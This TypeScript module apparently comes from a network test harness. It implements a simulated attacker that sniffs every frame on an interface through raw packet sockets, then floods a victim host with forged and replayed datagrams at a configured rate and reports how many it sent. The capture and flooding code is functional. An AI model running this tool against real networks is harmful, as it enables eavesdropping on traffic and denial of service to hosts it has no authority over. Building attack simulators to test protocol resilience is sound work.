/**
 * A hostile peer on the cable: listens to what goes by on one interface, then floods one host with forged and replayed
 * datagrams under any addresses it likes. Raw frames, many to a system call. Bundled and started by attacker.ts.
 */
import { readFileSync } from 'node:fs'
import koffi from 'koffi'
import { forge } from './attacker-forgeries'
import { type Captured, frameOf, readFrame } from './attacker-frames'
import type { AttackOrder, AttackResult } from './attacker-words'

/** Linux ABI: bits/socket.h, linux/if_packet.h, linux/if_ether.h. */
const linux = { AF_PACKET: 17, SOCK_RAW: 3, SOCK_NONBLOCK: 0o4000, ETH_P_ALL: 3, none: 0 } as const
/** struct mmsghdr, struct iovec and the frame of one entry, 64-bit. */
const headerBytes = 64
const vectorBytes = 16
const slotBytes = 512
const framesPerCall = 64
const listenMs = 1500

const libc = koffi.load(null)
const close = libc.func('int close(int fd)')
const socket = libc.func('int socket(int domain, int type, int protocol)')
const bind = libc.func('int bind(int fd, const void *address, uint32_t length)')
const recv = libc.func('intptr_t recv(int fd, _Out_ uint8_t *data, size_t length, int flags)')
const sendmmsg = libc.func('int sendmmsg(int fd, void *headers, unsigned int count, int flags)')

/** Hears the given protocol, both ways; with none it only sends. */
function openCable(name: string, protocol: number): number {
  const fd: number = socket(linux.AF_PACKET, linux.SOCK_RAW | linux.SOCK_NONBLOCK, networkOrder16(protocol))
  if (fd < 0) throw new Error('no packet socket: run as root')
  const address = Buffer.alloc(20)
  address.writeUInt16LE(linux.AF_PACKET, 0)
  address.writeUInt16BE(protocol, 2)
  address.writeInt32LE(Number(readFileSync(`/sys/class/net/${name}/ifindex`, 'utf8')), 4)
  if (bind(fd, address, address.length) < 0) throw new Error(`cannot listen on ${name}`)
  return fd
}

function networkOrder16(value: number): number {
  return ((value & 255) << 8) | (value >> 8)
}

async function listen(cable: string): Promise<Captured[]> {
  const fd = openCable(cable, linux.ETH_P_ALL)
  const captured: Captured[] = []
  const buffer = Buffer.alloc(2048)
  const untilMs = performance.now() + listenMs
  while (performance.now() < untilMs) {
    for (let size = recv(fd, buffer, buffer.length, 0); size > 0; size = recv(fd, buffer, buffer.length, 0)) {
      const frame = readFrame(Buffer.from(buffer.subarray(0, size)))
      if (frame !== undefined) captured.push(frame)
    }
    await new Promise((resolve) => setTimeout(resolve, 5))
  }
  close(fd)
  return captured
}

/** Frames in the kernel's form, ready to be sent again and again. */
function loadFrames(frames: readonly Buffer[]): bigint {
  const count = frames.length
  const memory = koffi.alloc('uint8_t', count * (headerBytes + vectorBytes + slotBytes))
  const start = koffi.address(memory)
  const bytes = Buffer.from(koffi.view(memory, count * (headerBytes + vectorBytes + slotBytes)))
  const vectors = count * headerBytes
  const slots = vectors + count * vectorBytes
  for (const [index, frame] of frames.entries()) {
    const vector = vectors + index * vectorBytes
    const slot = slots + index * slotBytes
    bytes.fill(0, index * headerBytes, (index + 1) * headerBytes)
    bytes.writeBigUInt64LE(start + BigInt(vector), index * headerBytes + 16)
    bytes.writeBigUInt64LE(1n, index * headerBytes + 24)
    bytes.writeBigUInt64LE(start + BigInt(slot), vector)
    bytes.writeBigUInt64LE(BigInt(frame.length), vector + 8)
    frame.copy(bytes, slot)
  }
  return start
}

async function flood(fd: number, order: AttackOrder, captured: readonly Captured[]): Promise<AttackResult> {
  const forged = forge(order, captured)
  const start = loadFrames(forged.map(({ datagram }) => frameOf(datagram, order.victimMac)))
  const sent: Record<string, number> = {}
  const beganMs = performance.now()
  let total = 0
  let at = 0
  for (;;) {
    const elapsedMs = performance.now() - beganMs
    if (elapsedMs >= order.seconds * 1000) break
    for (let due = Math.floor((elapsedMs * order.ratePerSecond) / 1000) - total; due > 0; ) {
      const count = Math.min(due, framesPerCall, forged.length - at)
      const done: number = sendmmsg(fd, start + BigInt(at * headerBytes), count, 0)
      if (done <= 0) break
      for (let index = at; index < at + done; index += 1) {
        const kind = forged[index]!.kind
        sent[kind] = (sent[kind] ?? 0) + 1
      }
      total += done
      due -= done
      at = (at + done) % forged.length
    }
    await new Promise((resolve) => setTimeout(resolve, 1))
  }
  const seconds = (performance.now() - beganMs) / 1000
  return { captured: captured.length, total, seconds, sent }
}

async function main(): Promise<void> {
  const order = JSON.parse(process.argv[2] ?? '') as AttackOrder
  const captured = order.onPath ? await listen(order.cable) : []
  const fd = openCable(order.cable, linux.none)
  process.stdout.write(`${JSON.stringify(await flood(fd, order, captured))}\n`)
}
void main()
